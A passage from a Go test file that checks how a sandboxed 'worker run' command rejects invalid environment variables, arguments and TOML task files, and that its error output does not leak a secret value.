		"TASK_ID":        {"a b", "want 1 to 64 letters, digits"},
		"PROMPT":         {" ", "missing"},
		"MODEL":          {"best", `has no model "best", but fast`},
	} {
		cmd := h.Command("worker", "run")
		for k, v := range good {
			cmd.Env = append(cmd.Env, k+"="+v)
		}
		cmd.Env = append(cmd.Env, name+"="+c.value)
		o := h.Run(cmd)
		if o.Code == 0 || !strings.Contains(o.Err, c.why) || strings.Contains(o.Err, secret) {
			t.Errorf("%s: %+v", name, o)
		}
	}
	for _, c := range []struct {
		args []string
		why  string
	}{
		{nil, "no TASK.toml is given, and the environment has no TASK_ID"},
		{[]string{"--parallel", "0", "none.toml"}, "--parallel 0: want a number from 1 to 64"},
		{[]string{"none.toml"}, "task none.toml: no such file or directory"},
	} {
		o := h.Jail(append([]string{"worker", "run"}, c.args...)...)
		if o.Code == 0 || !strings.HasPrefix(o.Err, "jail: error: "+c.why+"\n") {
			t.Errorf("%q: %+v, want %q", c.args, o, c.why)
		}
	}
	file := filepath.Join(h.Root, "t.toml")
	if err := os.WriteFile(file, []byte("task = 1\nid = \"t\"\nrepo = \"git@host:x\"\nbranch = \"b\"\n"+
		"prompt = \"p\"\nbrnach = \"x\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	o := h.Jail("worker", "run", file)
	for _, why := range []string{"t.toml:3:1: repo: want a URL", "t.toml:6:1: unknown key"} {
		if o.Code != 2 || !strings.Contains(o.Err, why) {
			t.Errorf("%+v, want %s", o, why)
		}
	}
}
